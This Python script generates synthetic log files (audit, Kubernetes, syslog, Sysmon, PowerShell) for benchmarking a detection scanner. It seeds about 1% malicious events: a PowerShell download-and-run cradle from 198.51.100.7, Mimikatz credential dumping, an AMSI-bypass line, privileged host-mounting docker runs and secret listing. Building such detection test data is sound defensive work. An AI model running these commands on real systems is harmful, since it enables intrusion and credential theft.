#!/usr/bin/env python3
"""Reproducible large inputs for the scan benchmarks (fixed seed; never committed).

    bench/generate_logs.py OUT_DIR [--events N]

writes OUT_DIR/big.audit.log, big.k8s.jsonl, big.syslog and big.evtx.jsonl with N events each
(default 200000): a realistic mix where most events are benign and about 1% are the behaviours
the seed rules look for. It also writes OUT_DIR/big.windows-long.jsonl with N / 20 Windows events
of long values (PowerShell command lines of up to 3,000 bytes, script blocks of up to 60 KiB),
for the `long` scenario.
"""
import base64
import json
import os
import random
import sys

BENIGN_CMDS = [["ls", "-la", "/var/log"], ["cat", "/etc/hostname"], ["systemctl", "status", "nginx"],
               ["ps", "aux"], ["grep", "-r", "error", "/var/log/app"], ["docker", "ps"],
               ["kubectl", "get", "pods", "-n", "web"], ["python3", "/opt/app/worker.py"],
               ["tar", "czf", "/tmp/backup.tgz", "/srv/data"], ["curl", "-s", "http://localhost:8080/health"]]
BAD_CMDS = [["kubectl", "get", "secrets", "-A"], ["docker", "-H", "unix:///var/run/docker.sock", "ps"],
            ["docker", "inspect", "--format", "{{.Config.Env}}", "db_password"],
            ["docker", "run", "--privileged", "--net=host", "-v", "/:/host", "alpine"]]


def audit(rng, n, out):
    t = 1731600000.0
    serial = 1000
    for i in range(n // 2):
        t += rng.random()
        serial += 1
        cmd = rng.choice(BAD_CMDS) if rng.random() < 0.01 else rng.choice(BENIGN_CMDS)
        stamp = "%.3f:%d" % (t, serial)
        out.write('node=host%02d type=SYSCALL msg=audit(%s): arch=c000003e syscall=59 success=yes exit=0 '
                  'a0=55d5 a1=55d6 a2=55d7 a3=0 items=2 ppid=%d pid=%d auid=%d uid=0 gid=0 euid=0 '
                  'suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="%s" exe="/usr/bin/%s" '
                  'key="exec"\n' % (i % 7, stamp, 1000 + i % 300, 2000 + i, 1000 + i % 5, cmd[0][:15], cmd[0]))
        args = " ".join('a%d="%s"' % (k, a) for k, a in enumerate(cmd))
        out.write("node=host%02d type=EXECVE msg=audit(%s): argc=%d %s\n" % (i % 7, stamp, len(cmd), args))


def k8s(rng, n, out):
    users = ["alice@corp.example", "system:serviceaccount:kube-system:coredns", "system:node:node-3",
             "system:kube-scheduler", "ci-bot"]
    for i in range(n):
        bad = rng.random() < 0.01
        ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
              "auditID": "%08x-0000-4000-8000-%012x" % (i, i), "stage": "ResponseComplete",
              "requestURI": "/api/v1/namespaces/web/pods", "verb": rng.choice(["get", "list", "watch", "create", "update"]),
              "user": {"username": rng.choice(users), "groups": ["system:authenticated"]},
              "sourceIPs": ["10.0.%d.%d" % (i % 250, i % 200)], "userAgent": "kubectl/v1.29.0",
              "objectRef": {"resource": "secrets" if bad else rng.choice(["pods", "deployments", "services", "events"]),
                            "namespace": "web", "name": "obj-%d" % (i % 1000), "apiVersion": "v1"},
              "responseStatus": {"metadata": {}, "code": 200},
              "requestReceivedTimestamp": "2024-11-14T%02d:%02d:%02d.%06dZ" % (i // 3600 % 24, i // 60 % 60, i % 60, i % 999999),
              "stageTimestamp": "2024-11-14T%02d:%02d:%02d.%06dZ" % (i // 3600 % 24, i // 60 % 60, i % 60, i % 999999)}
        out.write(json.dumps(ev, separators=(",", ":")) + "\n")


def syslog(rng, n, out):
    months = ["Nov"]
    for i in range(n):
        bad = rng.random() < 0.01
        msg = ("docker run --privileged -v /:/host alpine" if bad else
               rng.choice(["Accepted publickey for deploy from 10.0.0.5 port 52144 ssh2",
                           "pam_unix(cron:session): session opened for user root",
                           "Started Daily apt download activities.",
                           "nginx: 10.0.0.9 - - \"GET /health HTTP/1.1\" 200"]))
        prog = rng.choice(["sshd", "CRON", "systemd", "dockerd", "bash"])
        out.write("%s %2d %02d:%02d:%02d host%02d %s[%d]: %s\n" % (
            months[0], 14, i // 3600 % 24, i // 60 % 60, i % 60, i % 9, prog, 100 + i % 5000, msg))


def evtx(rng, n, out):
    for i in range(n):
        ev = {"Event": {"System": {"Provider": {"Name": "Microsoft-Windows-Sysmon"}, "EventID": 1,
                                   "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws%02d" % (i % 50),
                                   "TimeCreated": {"SystemTime": "2024-11-14T10:%02d:%02d.%03dZ" % (i // 60 % 60, i % 60, i % 1000)}},
                        "EventData": {"Image": rng.choice(["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
                                                           "C:\\Program Files\\App\\app.exe"]),
                                      "CommandLine": "app.exe --run %d" % i, "User": "CORP\\user%d" % (i % 40),
                                      "ParentImage": "C:\\Windows\\System32\\services.exe", "ProcessId": 1000 + i}}}
        out.write(json.dumps(ev, separators=(",", ":")) + "\n")


PS_LINES = ["$ErrorActionPreference = 'Stop'", "Import-Module ActiveDirectory",
            "$users = Get-ADUser -Filter * -Properties LastLogonDate",
            "foreach ($u in $users) { Write-Output $u.SamAccountName }",
            "Get-ChildItem -Path $env:ProgramData -Recurse -Filter *.log | Remove-Item -Force",
            "try { Invoke-RestMethod -Uri https://api.corp.example/v1/health } catch { Write-Warning $_ }",
            "$cfg = Get-Content -Raw C:\\ProgramData\\App\\config.json | ConvertFrom-Json",
            "Set-ItemProperty -Path HKCU:\\Software\\App -Name Version -Value $cfg.version",
            "Start-Process -FilePath msiexec.exe -ArgumentList '/i', 'C:\\Temp\\agent.msi', '/qn' -Wait",
            "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($blob))"]
PS_BAD = ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
          "Invoke-Mimikatz -DumpCreds", "$s = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"]


def windows_long(rng, n, out):
    """Windows events whose values are long: what real PowerShell activity logs."""
    def system(i, provider, channel, event_id):
        return {"Provider": {"Name": provider}, "EventID": event_id, "Channel": channel,
                "Computer": "ws%02d.corp.example" % (i % 50),
                "TimeCreated": {"SystemTime": "2024-11-14T11:%02d:%02d.%03dZ" % (i // 60 % 60, i % 60, i % 1000)}}
    for i in range(n):
        bad = rng.random() < 0.02
        if rng.random() < 0.15:  # a script block, 2-60 KiB
            lines, size = [], rng.randint(2048, 61440)
            while size > 0:
                line = rng.choice(PS_BAD) if bad and rng.random() < 0.01 else rng.choice(PS_LINES)
                lines.append(line)
                size -= len(line) + 2
            ev = {"Event": {"System": system(i, "Microsoft-Windows-PowerShell",
                                             "Microsoft-Windows-PowerShell/Operational", 4104),
                            "EventData": {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "\r\n".join(lines),
                                          "ScriptBlockId": "%08x-1111-4222-8333-%012x" % (i, i), "Path": ""}}}
        else:  # a process creation, often PowerShell with an encoded command of 400-3,000 bytes
            if rng.random() < 0.6:
                payload = base64.b64encode(rng.randbytes(rng.randint(300, 2250))).decode()
                image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                command = "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + payload
                if bad:
                    command = "powershell.exe -nop -w hidden -c " + rng.choice(PS_BAD)
            else:
                image = "C:\\Windows\\System32\\cmd.exe"
                command = "cmd.exe /c " + " && ".join("copy /y \\\\fs01\\deploy\\pkg%d.zip C:\\Temp\\" % k
                                                       for k in range(rng.randint(1, 40)))
            ev = {"Event": {"System": system(i, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1),
                            "EventData": {"Image": image, "CommandLine": command, "User": "CORP\\user%d" % (i % 40),
                                          "ParentImage": "C:\\Windows\\System32\\svchost.exe",
                                          "ParentCommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                                          "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": "High",
                                          "ProcessId": 1000 + i, "ParentProcessId": 600 + i % 50}}}
        out.write(json.dumps(ev, separators=(",", ":")) + "\n")


def main(argv):
    if not argv:
        sys.exit(__doc__)
    out_dir = argv[0]
    n = int(argv[argv.index("--events") + 1]) if "--events" in argv else 200000
    os.makedirs(out_dir, exist_ok=True)
    for name, fn in (("big.audit.log", audit), ("big.k8s.jsonl", k8s), ("big.syslog", syslog),
                     ("big.evtx.jsonl", evtx)):
        with open(os.path.join(out_dir, name), "w") as out:
            fn(random.Random(42), n, out)
    with open(os.path.join(out_dir, "big.windows-long.jsonl"), "w") as out:
        windows_long(random.Random(42), max(1, n // 20), out)


if __name__ == "__main__":
    main(sys.argv[1:])
